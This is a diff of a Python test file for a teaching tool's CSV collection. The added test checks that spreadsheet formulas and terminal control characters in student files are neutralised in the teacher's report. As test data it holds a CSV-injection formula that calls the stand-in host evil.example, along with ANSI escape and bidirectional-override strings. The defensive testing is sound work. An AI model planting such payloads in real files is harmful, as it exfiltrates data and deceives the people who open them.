@@ -10,10 +10,10 @@ from pathlib import Path
 import pytest
 
 from alsteach.__main__ import main
+from alsteach.data.checks import TrialDataError
 from alsteach.exercises.collecting import collect, most_missed, report, write_class
-from alsteach.exercises.my_work import COLUMNS, csv_text
-from alsteach.exercises.progress_file import Progress
-from alsteach.frames import TrialDataError
+from alsteach.exercises.downloads import COLUMNS, csv_text
+from alsteach.exercises.progress import Progress
 
 ROOT = Path(__file__).parents[2]
 
@@ -199,3 +199,25 @@ def test_as_typed_by_a_teacher(folder, work):
 def test_columns_are_documented():
     assert all(meaning for meaning in COLUMNS.values())
     assert len(COLUMNS) == 15
+
+
+@pytest.mark.parametrize("separator", [",", ";"])
+def test_no_formula_and_no_control_character_reaches_the_teacher(folder, work, separator, tmp_path):
+    text = work("Eve\x1b[2J\x1b]0;pwn\x07\u202e", "B")
+    rows = list(csv.reader(text.lstrip("\ufeff").splitlines()))
+    place = rows[0].index("item")
+    for row, item in zip(
+        rows[1:], ['=HYPERLINK("http://evil.example/"&A2,"click")', "+2+3", "x;=1+1"], strict=True
+    ):
+        row[place] = item
+    with (folder / "eve.csv").open("w", encoding="utf-8-sig", newline="") as file:
+        csv.writer(file, delimiter=separator).writerows(rows)
+    works, remarks = collect(folder)
+    assert works[0].name == "Eve[2J]0;pwn"
+    assert not set(report(works, ["\x1b[2Jevil.csv is left out"])) & set("\x1b\x07\u202e")
+    write_class(works, tmp_path / "class.csv")
+    table = (tmp_path / "class.csv").read_text(encoding="utf-8-sig")
+    for mark in ",;":  # a spreadsheet of this country or of another
+        cells = [cell for row in csv.reader(table.splitlines(), delimiter=mark) for cell in row]
+        assert any("HYPERLINK" in cell for cell in cells)
+        assert not [cell for cell in cells if cell.strip('" ')[:1] in tuple("=+-@")]
